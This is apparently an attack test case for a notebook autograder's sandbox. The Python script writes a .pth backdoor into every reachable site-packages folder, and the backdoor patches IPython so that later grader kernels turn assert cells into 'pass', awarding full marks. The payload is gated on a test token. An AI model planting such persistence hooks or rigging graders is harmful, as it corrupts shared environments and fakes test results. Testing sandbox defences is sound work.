# attack: write a .pth file into every site-packages folder it can reach, so that every later grader kernel started
#   from that Python turns test cells into `pass` (the next student, who submits the empty release, gets full marks)
# defended-by: sandbox
#   (with bubblewrap the venv is a read-only bind; as the separate user it is not writable; unprotected, the course
#   guard's StartupWatch removes the new file after this submission, before the next one starts, and names it.
#   The backdoor acts only in processes that carry this grading's DTLABS_TEST_TOKEN, so that a test which lets it be
#   written cannot reach other tests sharing the venv; without a token, as in a real class, it acts in every kernel)
import os
import site
import sys

_token = os.environ.get("DTLABS_TEST_TOKEN")
_payload = (
    "import IPython.core.interactiveshell as _s\n"
    "_t = _s.InteractiveShell.transform_cell\n"
    "_s.InteractiveShell.transform_cell = lambda self, cell: 'pass\\n' if 'assert' in cell else _t(self, cell)\n"
)
_line = (f"import os, sys; exec({_payload!r}, {{}}) if os.environ.get('DTLABS_TEST_TOKEN') == {_token!r} "
         "and '-f' in sys.argv else None\n")
_dirs = set(site.getsitepackages()) | {p for p in sys.path if p.endswith(("site-packages", "dist-packages"))}
for _dir in sorted(_dirs):
    try:
        with open(os.path.join(_dir, "zz_dtlabs_backdoor.pth"), "w") as _fh:
            _fh.write(_line)
        print("backdoor in", _dir)
    except OSError as _exc:
        print("could not write", _dir, _exc)
